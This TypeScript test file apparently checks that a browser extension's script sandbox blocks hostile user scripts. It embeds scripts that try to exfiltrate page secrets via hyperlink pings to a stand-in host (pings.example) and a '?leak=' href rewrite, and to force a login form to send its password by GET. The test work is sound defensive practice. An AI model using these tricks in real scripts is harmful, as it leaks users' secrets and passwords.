// Every address a click can make the browser contact passes the address rule, and a click sends a form only
// as the form sends itself. Hostile remixlets against two lab pages, in the test browser, which has hyperlink
// auditing on as stock Chrome does; each class starts with its positive control, the same trick done by a
// person's click on the same page with no remixlet, which does reach the witness (or put the password in the
// address).
//
// - Links: a page link with a third-party ping clicked with h.click(); the same link after the remixlet points
//   its href at an own-site address carrying page data (the case: the ping carries the destination in
//   Ping-To); a ping with several addresses and whitespace; a scheme-relative ping; a link reached through an
//   inner span and an inner label; the page's own in-page link; <area ping>; attributionsrc; a clone of a
//   pinging link (no ping on the copy, and none can be put on it), inserted and clicked. An own-site ping
//   passes, as the rule says. attributionsrc has no control: this Chromium (156) sends nothing for it (no
//   attributionSrc on HTMLAnchorElement, no request when a person clicks #attr-link); the click is refused
//   all the same, for a browser that does.
// - Submission: a formmethod="get" button of the POST login form clicked; a button outside the form tied to it
//   with form= and formmethod; page buttons with formenctype="text/plain" and formmethod moved into the login
//   form and clicked; formmethod on the page's own submit and method/enctype on the form (they land as marks);
//   clones of the overriding buttons (no form* attribute, none can be put back), one clicked in the login form,
//   which then posts as the form does; created buttons with formmethod or form=.
import { test, expect } from '../harness';
import { readLog } from '../remixlet';
import { installOn } from '../hostile-sandbox/kit';
import { PRELUDE } from './lab';

const PAGE_HTML = { 'content-type': 'text/html; charset=utf-8' };

const LINKS_SCRIPT = `
if (await dom.query('#ping-link')) {
  const r = {};
  const click = (sel) => settle(dom.query(sel).then((h) => h.click()));
  r.pageLink = await click('#ping-link');
  // The issue's case: the page link now goes to an own-site address carrying the page's data, then is clicked.
  const secret = await (await dom.query('#secret')).text();
  r.rewrite = await settle(dom.query('#ping-link').then((h) => h.setAttr('href', '/about.html?leak=' + encodeURIComponent(secret))));
  r.rewriteClick = await click('#ping-link');
  r.many = await click('#ping-many');
  r.relative = await click('#ping-relative');
  r.span = await click('#inner-span');
  r.label = await click('#inner-label');
  r.fragment = await click('#ping-fragment');
  r.area = await click('#ping-area');
  r.attributionsrc = await click('#attr-link');
  const copy = await (await dom.query('#ping-link')).clone();
  r.copyPing = await settle(copy.attr('ping'));
  r.copySetPing = await settle(copy.setAttr('ping', 'http://pings.example/ping?v=copy'));
  r.copySetAttributionsrc = await settle(copy.setAttr('attributionsrc', 'http://pings.example/attribution?v=copy'));
  r.created = await settle(dom.create('a', { attrs: { href: '/about.html', ping: 'http://pings.example/ping?v=created' } }));
  r.insert = await settle((await dom.query('#holder')).append(copy));
  r.own = await click('#own-ping');
  await report(r);
  await status('tried');
  await dom.waitFor('#go-copy', { timeout: 30000 });
  await copy.click();
}
`;

test('a click through a remixlet contacts no address the rule refuses: pings and attributionsrc, however the link is reached', async ({
  sites,
  openPage,
  openExtensionPage,
  tabIdOf,
  witness,
}) => {
  const page = await openPage('lab.test', '/links.html');
  // Control: a person's click on the same link, no remixlet: the browser sends the ping to the third party.
  await page.locator('#ping-link').click();
  await page.waitForURL('http://lab.test/about.html');
  await witness.waitForHits((h) => h.some((x) => x.host === 'pings.example' && x.path === '/ping?v=page-link' && x.method === 'POST'), {
    message: 'the control click sent no ping',
    timeout: 15_000,
  });
  await page.goto('http://lab.test/links.html');
  await witness.clear();

  const { panel, ids } = await installOn(page, tabIdOf, openExtensionPage, [{ name: 'Pinger', matches: ['*://lab.test/*'], script: `${PRELUDE}\n${LINKS_SCRIPT}` }]);
  const id = ids[0]!;
  await expect(page.locator('#status')).toHaveText('tried', { timeout: 30_000 });
  const r = JSON.parse((await page.locator('#results').textContent()) ?? '{}') as Record<string, { ok: boolean; code?: string; value?: unknown }>;
  for (const key of ['pageLink', 'rewriteClick', 'many', 'relative', 'span', 'label', 'fragment', 'area', 'attributionsrc']) {
    expect(r[key], key).toMatchObject({ ok: false, code: 'CLICK_REFUSED' });
  }
  for (const key of ['rewrite', 'copySetPing', 'copySetAttributionsrc', 'created']) expect(r[key], key).toMatchObject({ ok: false, code: 'ATTRIBUTE_REFUSED' });
  expect(r.copyPing).toEqual({ ok: true, value: null });
  expect(r.insert).toMatchObject({ ok: true });
  // The rule lets an own-site ping through: the click works and its ping reaches the page's own server.
  expect(r.own).toMatchObject({ ok: true });
  await expect.poll(() => sites.requests({ host: 'lab.test', path: '/own-ping?v=allowed' }).map((q) => q.method)).toEqual(['POST']);
  // The page link kept its href; the copy in the page carries no ping.
  expect(await page.locator('#ping-link').getAttribute('href')).toBe('/about.html');
  expect(await page.locator('#holder a').evaluate((a) => [a.getAttribute('ping'), a.getAttribute('attributionsrc'), a.getAttribute('href')])).toEqual([null, null, '/about.html']);

  // Last, the copy is clicked: it goes to its href and pings nobody.
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<i id="go-copy"></i>'));
  await page.waitForURL('http://lab.test/about.html');

  // Each refusal is in the remixlet's log with its code, naming the address it refused.
  await expect
    .poll(async () => (await readLog(panel, id)).filter((e) => e.level === 'refusal').map((e) => `${e.refusal?.code} ${e.message}`), { timeout: 10_000 })
    .toEqual(
      expect.arrayContaining(
        ['page-link', 'many', 'scheme-relative', 'span', 'label', 'fragment', 'area']
          .map((v) => expect.stringMatching(new RegExp(`^CLICK_REFUSED .*ping to "[^"]*pings\\.example/ping\\?v=${v}`)))
          .concat([
            expect.stringMatching(/^CLICK_REFUSED .*attributionsrc to "http:\/\/pings\.example\/attribution\?v=attributionsrc"/),
            expect.stringMatching(/^ATTRIBUTE_REFUSED .*The href of <a#ping-link> cannot be changed/),
          ]),
      ),
    );
  await witness.expectNoHits({ settleMs: 1_000 });
  expect(sites.requests({ host: 'lab.test' }).filter((q) => q.path.includes('leak') || q.path.startsWith('/own-ping?v=many'))).toEqual([]);
});

const FORMS_SCRIPT = `
if (await dom.query('#get-btn')) {
  await dom.waitFor('#ready', { timeout: 30000 });
  const r = {};
  const click = (sel) => settle(dom.query(sel).then((h) => h.click()));
  const login = await dom.query('#login');
  r.direct = await click('#get-btn');
  r.tied = await click('#tied');
  r.moveEnc = await settle(dom.query('#plain-btn').then((b) => login.append(b)));
  r.movedEncClick = await click('#plain-btn');
  r.moveGet = await settle(dom.query('#other-get').then((b) => login.append(b)));
  r.movedGetClick = await click('#other-get');
  // On the page's own elements, attribute names land as marks: the form and its button keep their own.
  r.setFormmethod = await settle(dom.query('#signin').then((h) => h.setAttr('formmethod', 'get')));
  r.setMethod = await settle(login.setAttr('method', 'get'));
  r.setEnctype = await settle(login.setAttr('enctype', 'text/plain'));
  // The issue's case: a copy of the formmethod="get" button, put in the POST login form.
  const getCopy = await (await dom.query('#get-btn')).clone();
  const encCopy = await (await dom.query('#plain-btn')).clone();
  r.getCopyAttr = await settle(getCopy.attr('formmethod'));
  r.encCopyAttr = await settle(encCopy.attr('formenctype'));
  r.getCopySet = await settle(getCopy.setAttr('formmethod', 'get'));
  r.encCopySet = await settle(encCopy.setAttr('formenctype', 'text/plain'));
  r.getCopyForm = await settle(getCopy.setAttr('form', 'login'));
  r.created = await settle(dom.create('button', { attrs: { formmethod: 'get' } }));
  r.createdTied = await settle(dom.create('button', { attrs: { form: 'login', formmethod: 'get' } }));
  r.insert = await settle(login.append(getCopy));
  await report(r);
  await status('tried');
  await dom.waitFor('#go-copy', { timeout: 30000 });
  await getCopy.click();
}
`;

test('a click sends a form only by its own method, encoding and address: the password never reaches an address', async ({
  sites,
  openPage,
  openExtensionPage,
  tabIdOf,
}) => {
  const served: Array<{ method: string; path: string; body: string }> = [];
  for (const path of ['/login', '/other']) {
    sites.route('lab.test', path, (req, _res, ctx) => {
      served.push({ method: req.method ?? '', path: ctx.url.pathname + ctx.url.search, body: ctx.body.toString('utf8') });
      return { headers: PAGE_HTML, body: '<!doctype html><title>Sent</title><p id="sent">sent</p>' };
    });
  }
  const page = await openPage('lab.test', '/forms.html');
  // Control: a person's click on the formmethod="get" button, no remixlet: the password is in the address.
  await page.locator('#password').fill('typed-hunter2');
  await page.locator('#get-btn').click();
  await expect(page.locator('#sent')).toBeVisible();
  expect(served).toEqual([{ method: 'GET', path: '/login?user=alice&password=typed-hunter2', body: '' }]);
  expect(page.url()).toContain('password=typed-hunter2');
  served.length = 0;
  await page.goto('http://lab.test/forms.html');

  const { panel, ids } = await installOn(page, tabIdOf, openExtensionPage, [{ name: 'Resubmitter', matches: ['*://lab.test/*'], script: `${PRELUDE}\n${FORMS_SCRIPT}` }]);
  const id = ids[0]!;
  await page.locator('#password').fill('typed-hunter2');
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<i id="ready"></i>'));
  await expect(page.locator('#status')).toHaveText('tried', { timeout: 30_000 });
  const r = JSON.parse((await page.locator('#results').textContent()) ?? '{}') as Record<string, { ok: boolean; code?: string; value?: unknown }>;
  for (const key of ['direct', 'tied', 'movedEncClick', 'movedGetClick']) expect(r[key], key).toMatchObject({ ok: false, code: 'CLICK_REFUSED' });
  for (const key of ['getCopySet', 'encCopySet', 'getCopyForm', 'created', 'createdTied']) expect(r[key], key).toMatchObject({ ok: false, code: 'ATTRIBUTE_REFUSED' });
  for (const key of ['moveEnc', 'moveGet', 'setFormmethod', 'setMethod', 'setEnctype', 'insert']) expect(r[key], key).toMatchObject({ ok: true });
  expect(r.getCopyAttr).toEqual({ ok: true, value: null });
  expect(r.encCopyAttr).toEqual({ ok: true, value: null });
  // No click was sent: nothing reached the server.
  expect(served).toEqual([]);
  // The marks changed nothing the browser submits by.
  expect(
    await page.evaluate(() => {
      const f = document.getElementById('login') as HTMLFormElement;
      return [f.getAttribute('method'), f.getAttribute('enctype'), document.getElementById('signin')!.getAttribute('formmethod'), f.method, f.enctype];
    }),
  ).toEqual(['post', null, null, 'post', 'application/x-www-form-urlencoded']);
  expect(await page.locator('#login > button:not([id])').evaluate((b) => b.getAttributeNames().filter((n) => n.startsWith('form')))).toEqual([]);

  // Last, the copy is clicked in the login form: it posts as the form does, to the page's own address.
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<i id="go-copy"></i>'));
  await expect(page.locator('#sent')).toBeVisible();
  expect(served.map((s) => `${s.method} ${s.path}`)).toEqual(['POST /login']);
  expect(served.filter((s) => s.method === 'GET' || s.path.includes('hunter2'))).toEqual([]);
  expect(page.url()).toBe('http://lab.test/login');

  await expect
    .poll(async () => (await readLog(panel, id)).filter((e) => e.level === 'refusal').map((e) => `${e.refusal?.code} ${e.message}`), { timeout: 10_000 })
    .toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^CLICK_REFUSED .*<button#get-btn> carries formmethod/),
        expect.stringMatching(/^CLICK_REFUSED .*<button#tied> carries formmethod/),
        expect.stringMatching(/^CLICK_REFUSED .*<button#plain-btn> carries formenctype/),
        expect.stringMatching(/^CLICK_REFUSED .*<button#other-get> carries formmethod/),
        expect.stringMatching(/^ATTRIBUTE_REFUSED .*formmethod on <button> is refused/),
        expect.stringMatching(/^ATTRIBUTE_REFUSED .*formenctype on <button> is refused/),
      ]),
    );
});
